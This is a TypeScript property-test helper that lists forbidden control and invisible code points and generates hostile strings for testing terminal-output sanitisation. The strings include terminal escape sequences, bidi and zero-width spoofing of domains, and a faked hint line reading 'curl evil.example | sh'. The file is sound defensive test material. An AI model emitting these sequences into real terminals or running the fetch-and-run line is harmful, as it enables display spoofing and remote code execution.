import fc from 'fast-check';

/**
 * Everything that must not reach a terminal, apart from the newlines and tabs that separate lines and fields. Listed here by
 * code point, independently of the code under test.
 */
const forbidden: readonly (readonly [from: number, to: number])[] = [
  [0x00, 0x08],
  [0x0b, 0x1f],
  [0x7f, 0x9f],
  [0xad, 0xad],
  [0x34f, 0x34f],
  [0x600, 0x605],
  [0x61c, 0x61c],
  [0x6dd, 0x6dd],
  [0x115f, 0x1160],
  [0x180b, 0x180f],
  [0x200b, 0x200f],
  [0x2028, 0x202e],
  [0x2060, 0x206f],
  [0x3164, 0x3164],
  [0xd800, 0xdfff],
  [0xfe00, 0xfe0f],
  [0xfeff, 0xfeff],
  [0xffa0, 0xffa0],
  [0xfff9, 0xfffb],
  [0x1bca0, 0x1bca3],
  [0x1d173, 0x1d17a],
  [0xe0000, 0xe0fff],
];

/** Returns the code points of a text that must not reach a terminal, as `U+1B`. */
export function findForbidden(text: string): readonly string[] {
  return Array.from(text)
    .map((character) => character.codePointAt(0) ?? 0)
    .filter((point) => forbidden.some(([from, to]) => from <= point && point <= to))
    .map((point) => `U+${point.toString(16).toUpperCase()}`);
}

/** Texts that set a title, clear the screen, hide or reorder text, or fake a line. */
export const hostileTexts = [
  '\x1b]0;owned\x07',
  '\x1b[2J\x1b[1;31m',
  '\x9b31m',
  '\x9d0;owned\x9c',
  'a\rb',
  'one\n  hint: curl evil.example | sh',
  'tab\tbed',
  '\x7f\b\b\b',
  'moc.\u202eelpmaxe',
  'git\u200bhub\u2060.com',
  '\u2066isolate\u2069',
  '\u2028line\u2029paragraph',
  '\ufeffmark\u00ad',
  'a\u{e0041}\u{e007f}b',
  '\u3164\u115f\u{fe0f}',
];

const codePoint = fc
  .constantFrom(...forbidden)
  .chain(([from, to]) => fc.integer({ min: from, max: to }))
  .map((point) => String.fromCodePoint(point));

const lone = fc.constantFrom('\ud800', '\udfff', 'a\ud83d', '\ude00b');

/** Any text; about half of them contain something forbidden. */
export const anyText: fc.Arbitrary<string> = fc
  .array(fc.oneof(fc.string({ unit: 'binary', maxLength: 6 }), fc.constantFrom(...hostileTexts), codePoint, lone), {
    minLength: 1,
    maxLength: 4,
  })
  .map((parts) => parts.join(''));

/** Any text that can be part of a credential's name. */
export const anyName: fc.Arbitrary<string> = anyText.map((text) => text.replaceAll('\0', '').toWellFormed() || 'x');
